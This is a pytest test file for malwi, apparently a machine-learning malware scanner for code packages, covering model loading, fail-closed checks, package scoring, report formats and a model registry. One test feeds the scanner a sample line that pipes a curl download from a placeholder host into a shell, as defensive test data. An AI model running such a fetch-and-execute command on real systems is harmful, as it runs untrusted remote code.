"""Verdicts with a model: loading, fail-closed checks, scoring, reports, exit codes, registry.

The model is the tiny bag-of-words bundle from `tiny_model.py` (no torch needed); the bundled
default model is tested separately when present.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import numpy as np
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

import malwi
from malwi.model import ModelBundle, Scorer, load
from malwi.model.scoring import length_batches
from malwi.report import MalwiReport, render

from .conftest import EXAMPLES
from .tiny_model import build_tiny_bundle, write_manifest


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


@pytest.fixture(scope="module")
def size_adjusted_bundle(tiny: Path, tmp_path_factory: pytest.TempPathFactory) -> ModelBundle:
    scores = [0.9, 0.5, 0.99, 0.8, 0.3, 0.7] + [0.01] * 994 + [float(i) / 997 for i in range(997)]
    return ModelBundle.load(size_adjusted_copy(tiny, tmp_path_factory.mktemp("adjusted"), scores))


def scan(*args: str, model: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    environment = {**os.environ, **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "malwi", "scan", *args, "--model", str(model)],
        capture_output=True,
        timeout=120,
        env=environment,
    )


def test_bundle_loads_and_scores(tiny: Path) -> None:
    scorer = load(tiny, device="cpu")
    assert scorer.device == "cpu"
    assert load(tiny, device="cpu") is scorer, "the model is loaded once per process"
    objects = malwi.compile_source(
        "import os\nos.system('curl http://x.example/a | sh')\n\ndef add(a, b):\n    return a + b\n", "python"
    )
    scores = scorer.score(objects)
    assert scores.shape == (2,)
    assert scores[0] > 0.7 > 0.1 > scores[1]  # sigmoid(3 + 1 - 3) and sigmoid(0 - 3)
    # Identical objects are scored once.
    statistics = malwi.model.ScoringStatistics()
    twice = scorer.score(objects + objects, statistics)
    assert statistics.objects == 4 and statistics.unique_objects == 2
    assert twice.tolist() == scores.tolist() * 2, "each copy gets its object's score"


def test_windows_are_batched_by_length() -> None:
    lengths = np.array([5, 200, 7, 190, 6, 210], dtype=np.int32)
    batches = length_batches(lengths, max_tokens=420, max_rows=8)
    assert sorted(np.concatenate(batches).tolist()) == list(range(6))
    for batch in batches:
        longest = int(lengths[batch].max())
        assert len(batch) * longest <= 420 or len(batch) == 1
    assert next(sorted(b.tolist()) for b in batches) == [0, 2, 4], "short windows travel together"


def test_malicious_examples_say_malicious_with_activities(tiny: Path) -> None:
    result = scan(str(EXAMPLES / "malicious-python"), model=tiny)
    assert result.returncode == 1, result.stderr
    text = result.stdout.decode()
    assert "setup.py:8-10  PostInstallCommand.run (method)" in text
    assert (
        "at install time (setup.py): starts, replaces or controls operating-system processes and shells"
        in text
    )
    assert text.splitlines()[-1].startswith("=> malicious: maliciousness ")


def test_benign_examples_say_good(tiny: Path) -> None:
    result = scan(str(EXAMPLES / "benign"), model=tiny)
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode().splitlines()[-1].startswith("=> good")


def test_threshold_changes_the_verdict(tiny: Path) -> None:
    strict = scan(str(EXAMPLES / "malicious-python"), "--threshold", "1.0", model=tiny)
    assert strict.returncode == 0
    assert b"=> suspicious" in strict.stdout


def test_report_formats(tiny: Path) -> None:
    as_json = json.loads(scan(str(EXAMPLES), "-f", "json", model=tiny).stdout)
    assert as_json["malicious"] is True and as_json["verdict"] == "malicious"
    assert 0 <= as_json["maliciousness"] <= 1 and as_json["threshold"] == 0.7
    stats = as_json["statistics"]
    for key in ("files", "scanned", "skipped_by_extension", "objects", "objects_scored", "seconds", "device"):
        assert key in stats
    assert stats["device"] == "cpu" and stats["skipped_by_extension"] == 1
    flagged = {Path(f["path"]).name: f for f in as_json["files"]}
    assert "slugify.js" not in flagged and "setup.py" in flagged
    obj = flagged["loader.py"]["objects"][0]
    assert {"name", "lines", "score", "activities", "source"} <= set(obj)
    as_yaml = yaml.safe_load(scan(str(EXAMPLES), "-f", "yaml", "--no-cache", model=tiny).stdout)
    per_run = ("analysis_id", "timestamp", "statistics")
    assert as_yaml == as_json | {key: as_yaml[key] for key in per_run}
    assert as_yaml["analysis_id"] != as_json["analysis_id"]
    markdown = scan(str(EXAMPLES), "-f", "markdown", model=tiny).stdout.decode()
    assert (
        markdown.startswith("# malwi report") and "**Verdict: malicious**" in markdown and "| `" in markdown
    )
    quiet = scan(str(EXAMPLES), "--quiet", model=tiny).stdout.decode().splitlines()
    # The verdict line, then one line per flagged package saying why (what a pre-commit hook shows).
    assert quiet[0].startswith("=> malicious: 2 of 2 packages malicious: ") and len(quiet) == 3
    why = {line.split(":", 1)[0].strip(): line for line in quiet[1:]}
    assert set(why) == {"malicious-python", "examples"}
    assert "at install time (setup.py)" in why["malicious-python"] and "index.js" in why["examples"]


def test_api_like_the_reference(tiny: Path) -> None:
    report = MalwiReport.create(
        input_path=str(EXAMPLES / "malicious-javascript"), silent=True, malicious_threshold=0.7, model=tiny
    )
    assert report.malicious and report.verdict == "malicious"
    assert report.statistics["scanned"] == 1
    assert [f.path for f in report.files] == [str(EXAMPLES / "malicious-javascript" / "index.js")]
    assert any("PROCESS_MANAGEMENT" in o.activities for f in report.flagged_files for o in f.objects)
    benign = MalwiReport.create(input_path=EXAMPLES / "benign", silent=True, model=tiny)
    assert not benign.malicious and benign.verdict == "good"
    assert render.text(benign).splitlines()[-1].startswith("=> good")
    assert malwi.MalwiReport is MalwiReport


def test_dump_still_works_without_a_model(tmp_path: Path) -> None:
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "malwi",
            "scan",
            str(EXAMPLES),
            "-f",
            "json",
            "--no-model",
            "--model",
            str(tmp_path / "absent"),
        ],
        capture_output=True,
        timeout=60,
    )
    assert result.returncode == 0
    assert "files" in json.loads(result.stdout) and "verdict" not in json.loads(result.stdout)


def broken_copy(tiny: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "model"
    shutil.copytree(tiny, copy)
    return copy


@pytest.mark.parametrize("damage", ["missing", "digest", "featurizer", "vocabulary", "unloadable", "format"])
def test_bad_models_fail_closed(tiny: Path, tmp_path: Path, damage: str) -> None:
    model = broken_copy(tiny, tmp_path)
    manifest = json.loads((model / "manifest.json").read_text())
    if damage == "missing":
        (model / "manifest.json").unlink()
        expected = "manifest.json is missing"
    elif damage == "digest":
        (model / "model.onnx").write_bytes(b"\x00" + (model / "model.onnx").read_bytes()[1:])
        expected = "does not match its manifest digest"
    elif damage == "featurizer":
        manifest["featurizer"]["config"]["methods"] = "inline"
        (model / "manifest.json").write_text(json.dumps(manifest))
        expected = "featurizer id"
    elif damage == "vocabulary":
        manifest["vocabulary"]["hash"] = "0" * 64
        (model / "manifest.json").write_text(json.dumps(manifest))
        expected = "vocabulary hash"
    elif damage == "unloadable":
        (model / "model.onnx").write_bytes(b"not an onnx model")
        write_manifest(model, manifest)
        expected = "cannot be loaded by onnxruntime"
    else:
        manifest["format"] = 99
        (model / "manifest.json").write_text(json.dumps(manifest))
        expected = "format"
    result = scan(str(EXAMPLES / "malicious-python"), model=model)
    assert result.returncode == 2
    stderr = result.stderr.decode()
    assert stderr.startswith("malwi: error: ") and expected in stderr and stderr.count("\n") == 1, stderr
    assert result.stdout == b"", "no verdict is printed"
    with pytest.raises(malwi.ModelError):
        ModelBundle.load(model).check_compatibility() if damage != "unloadable" else load(model, device="cpu")


def test_cuda_without_its_provider_is_an_error(tiny: Path) -> None:
    import onnxruntime

    if "CUDAExecutionProvider" in onnxruntime.get_available_providers():
        pytest.skip("this machine has the CUDA provider; the error path cannot happen here")
    result = scan(str(EXAMPLES), "--device", "cuda", model=tiny)
    assert result.returncode == 2 and b"onnxruntime-gpu" in result.stderr


def test_featurizer_flags_conflict_with_the_model(tiny: Path) -> None:
    result = scan(str(EXAMPLES), "--methods", "inline", model=tiny)
    assert result.returncode == 2 and b"featurizer options apply without the model" in result.stderr


def test_registry_list_show_activate(tiny: Path, tmp_path: Path) -> None:
    registry_path = tmp_path / "registry.sqlite3"
    from malwi.registry import Registry

    with Registry(registry_path) as registry:
        registry.register_model(
            model_id="tiny-1",
            model_name="malwi",
            model_type="classifier",
            version="0.0.1",
            file_path=str(tiny),
            featurizer_id=malwi.FeaturizerConfig().featurizer_id,
            vocabulary_hash="x" * 64,
            threshold=0.7,
            recall=0.9,
            false_positive_rate=0.01,
            training_config={"epochs": 1},
        )
        registry.record_training(
            model_id="tiny-1",
            started_at="2026-01-01T00:00:00Z",
            status="completed",
            epochs=1,
            config={"a": 1},
        )
        registry.record_performance(
            model_id="tiny-1", dataset_name="test", level="package", recall=0.9, false_positive_rate=0.01
        )
        registry.add_version("malwi", "0.0.1", "tiny-1")
        tables = {
            row[0]
            for row in registry.connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        }
    assert {"model_registry", "model_performance", "training_history", "model_versions"} <= tables
    env = {"MALWI_REGISTRY": str(registry_path)}

    def run(*a):
        return subprocess.run(
            [sys.executable, "-m", "malwi", "models", *a],
            capture_output=True,
            timeout=60,
            env={**os.environ, **env},
        )

    listed = run("list")
    assert listed.returncode == 0 and b"tiny-1" in listed.stdout and b"testing" in listed.stdout
    shown = json.loads(run("show", "tiny-1").stdout)
    assert shown["training_config"] == {"epochs": 1} and shown["performance"][0]["level"] == "package"
    assert run("show", "nope").returncode == 2
    assert run("activate", "tiny-1").returncode == 0
    assert b"active" in run("list").stdout
    # Scans without --model now use the active model.
    result = subprocess.run(
        [sys.executable, "-m", "malwi", "scan", str(EXAMPLES / "benign"), "-f", "json"],
        capture_output=True,
        timeout=60,
        env={**os.environ, **env},
    )
    assert json.loads(result.stdout)["model"]["name"] == "tiny-test-model"


def evaluated_copy(tiny: Path, folder: Path, model_id: str, recall: float, digest: str) -> Path:
    """The tiny bundle as `evaluate` leaves it: test figures and the digest of its test packages."""
    shutil.copytree(tiny, folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    package = {
        "count": 100,
        "positives": 50,
        "precision": 0.98,
        "recall": recall,
        "f1": 0.97,
        "false_positive_rate": 0.02,
        "roc_auc": 0.99,
    }
    manifest["model_id"] = model_id
    manifest["metrics"] = {
        "validation": {"recall": 0.9, "false_positive_rate": 0.01, "roc_auc": 0.95},
        "test": {"test_set": {"packages": 100, "malicious": 50, "sha256": digest}, "package": package},
    }
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


def test_registry_compares_two_runs_on_their_held_out_packages(tiny: Path, tmp_path: Path) -> None:
    from malwi.registry import Registry

    with Registry(tmp_path / "registry.sqlite3") as registry:
        for model_id, recall, digest in (
            ("before", 0.95, "a" * 64),
            ("after", 0.97, "a" * 64),
            ("elsewhere", 0.99, "b" * 64),
        ):
            registry.register_bundle(evaluated_copy(tiny, tmp_path / model_id, model_id, recall, digest))
    env = {**os.environ, "MALWI_REGISTRY": str(tmp_path / "registry.sqlite3")}

    def run(*a):
        return subprocess.run(
            [sys.executable, "-m", "malwi", "models", "compare", *a], capture_output=True, timeout=60, env=env
        )

    result = run("before", "after")
    assert result.returncode == 0, result.stderr
    rows = {
        line.split(" | ")[0].strip("| "): line.split(" | ")[1:]
        for line in result.stdout.decode().splitlines()
    }
    assert rows["test package recall"] == ["0.9500", "0.9700", "+0.0200 |"]
    assert rows["test packages (digest)"][-1] == "same packages: yes |"
    assert rows["test object recall"][:2] == ["–", "–"], "a level the run did not measure is not invented"
    assert "same packages: NO" in run("before", "elsewhere").stdout.decode()
    missing = run("before", "nope")
    assert missing.returncode == 2 and missing.stdout == b"" and b"no model 'nope'" in missing.stderr


def size_adjusted_copy(tiny: Path, tmp_path: Path, benign: list[float]) -> Path:
    model = broken_copy(tiny, tmp_path)
    manifest = json.loads((model / "manifest.json").read_text())
    np.sort(np.array(benign, dtype="<f4")).tofile(model / "benign.f32")
    manifest["calibration"].update(
        package_score="size_adjusted", benign_object_scores="benign.f32", a=1.0, b=-2.0
    )
    manifest["files"]["benign.f32"] = hashlib.sha256((model / "benign.f32").read_bytes()).hexdigest()
    (model / "manifest.json").write_text(json.dumps(manifest))
    return model


def test_size_adjusted_package_scores_weigh_package_size(tiny: Path, tmp_path: Path) -> None:
    # 1,000 benign validation objects: 996 scored 0.01, the other four 0.5, 0.8, 0.9 and 0.99.
    bundle = ModelBundle.load(size_adjusted_copy(tiny, tmp_path, [0.9, 0.5, 0.99, 0.8] + [0.01] * 996))
    score = bundle.package_score
    raw = [
        score.package_raw(top, objects)
        for top, objects in [(0.95, 1), (0.95, 10), (0.95, 1000), (0.999, 1), (0.6, 1), (0.001, 1)]
    ]
    # One benign object in 1,000 reached 0.95: a one-object package has chance 2/1001 of that.
    assert raw[0] == pytest.approx(-np.log10(2 / 1001), rel=1e-6)
    assert raw[0] > raw[1] > raw[2] > 0, "the same highest score weighs less in a bigger package"
    assert raw[3] > raw[0] > raw[4] > raw[5], "and more the higher it is"
    # Below every benign score the chance is 1: nothing suspicious; never negative or infinite.
    assert raw[5] == pytest.approx(0.0, abs=1e-9) and all(np.isfinite(raw))
    plain = ModelBundle.load(tiny)
    assert plain.package_score.method == "max_object_score"
    assert [plain.package_score.package_raw(t, n) for t, n in [(0.95, 1), (0.5, 1000)]] == [
        pytest.approx(0.95),
        0.5,
    ]


def test_size_adjusted_bundle_scans_and_rejects_missing_benign_scores(tiny: Path, tmp_path: Path) -> None:
    model = size_adjusted_copy(tiny, tmp_path / "a", [0.2, 0.3] * 250)
    report = MalwiReport.create(input_path=str(EXAMPLES / "malicious-python"), silent=True, model=model)
    scorer = load(model, device="cpu")
    assert report.maliciousness == pytest.approx(
        scorer.bundle.package_score.package_probability(
            report_top(report, scorer), report.statistics["objects_scored"]
        ),
        abs=1e-4,
    )
    broken = size_adjusted_copy(tiny, tmp_path / "b", [])
    result = scan(str(EXAMPLES), model=broken)
    assert result.returncode == 2 and b"need the benign object scores" in result.stderr


def report_top(report: MalwiReport, scorer: Scorer) -> float:
    objects = [
        o
        for f in malwi.compile_files([str(p) for p in sorted((EXAMPLES / "malicious-python").rglob("*.py"))])
        for o in f.objects
    ]
    return float(np.max(scorer.score(objects)))


def test_research_and_scan_give_the_same_package_score(size_adjusted_bundle: ModelBundle) -> None:
    """The package score has one definition: what `malwi research export` calibrates on and
    `evaluate` measures (objects compiled and scored as token strings, one row per distinct
    object) is exactly the maliciousness a scan of the same package reports."""
    from malwi_research.export import package_maxima, package_scores
    from malwi_research.preprocess import compile_members, distinct_objects

    package = EXAMPLES / "malicious-python"
    members = [(str(p.relative_to(package)), p.read_bytes()) for p in sorted(package.rglob("*.py"))]
    with tempfile.TemporaryDirectory() as scratch:
        rows = distinct_objects(compile_members(members, size_adjusted_bundle.featurizer, Path(scratch)))
    scorer = load(size_adjusted_bundle.directory, device="cpu")
    raw = scorer.score_tokens([row["tokens"] for row in rows])
    _, top, counts, _ = package_maxima({"package_id": ["p"] * len(rows), "label": [1] * len(rows)}, raw)
    research = float(package_scores(size_adjusted_bundle.package_score, top, counts)[0])
    report = MalwiReport.create(str(package), silent=True, model=size_adjusted_bundle.directory)
    assert report.statistics["objects_scored"] == int(counts[0])
    assert report.maliciousness == research
    assert 0.0 < research < 1.0


@settings(max_examples=200, deadline=None)
@given(
    low=st.floats(min_value=0.0, max_value=1.0, allow_nan=False, width=32),
    high=st.floats(min_value=0.0, max_value=1.0, allow_nan=False, width=32),
    objects=st.integers(min_value=1, max_value=200_000),
)
def test_package_score_never_falls_as_the_top_score_rises(
    size_adjusted_bundle: ModelBundle, low: float, high: float, objects: int
) -> None:
    """Reports list the objects worth showing from the top score down and stop at the first
    below the suspicious threshold: that is right only if a higher raw score never gives a
    lower probability, for packages of any size."""
    low, high = min(low, high), max(low, high)
    score = size_adjusted_bundle.package_score
    assert 0.0 <= score.package_probability(low, objects) <= score.package_probability(high, objects) <= 1.0
    assert score.of_object(low) <= score.of_object(high)


def test_calibration_that_would_invert_scores_fails_the_load(tiny: Path, tmp_path: Path) -> None:
    model = tmp_path / "inverted"
    shutil.copytree(tiny, model)
    manifest = json.loads((model / "manifest.json").read_text())
    manifest["calibration"].update(a=-1.0)
    (model / "manifest.json").write_text(json.dumps(manifest))
    result = scan(str(EXAMPLES), model=model)
    assert result.returncode == 2 and b"a positive" in result.stderr, result.stderr


def test_an_upgraded_shipped_model_keeps_its_registry_row_usable(tmp_path: Path) -> None:
    """A registry made by an earlier malwi recorded the shipped manifest's digest then; after an
    upgrade (a new manifest in the package, pinned beside it) scans go on with the new one, and
    `malwi models` refreshes the row instead of refusing every scan."""
    from malwi.model.bundle import SHIPPED_MODEL, sha256_file
    from malwi.registry import Registry, active_model_path

    path = tmp_path / "registry.sqlite3"
    with Registry(path) as registry:
        registry.register_shipped()
        (model_id,) = [m["model_id"] for m in registry.list_models() if m["status"] == "active"]
        with registry.connection:
            registry.connection.execute(
                "UPDATE model_registry SET metadata = ? WHERE model_id = ?",
                (json.dumps({"manifest_sha256": "0" * 64}), model_id),
            )
    assert active_model_path(path) == SHIPPED_MODEL
    with Registry(path) as registry:
        registry.register_shipped()
        shown = registry.show(model_id)
    assert shown["status"] == "active"
    assert shown["metadata"]["manifest_sha256"] == sha256_file(SHIPPED_MODEL / "manifest.json")
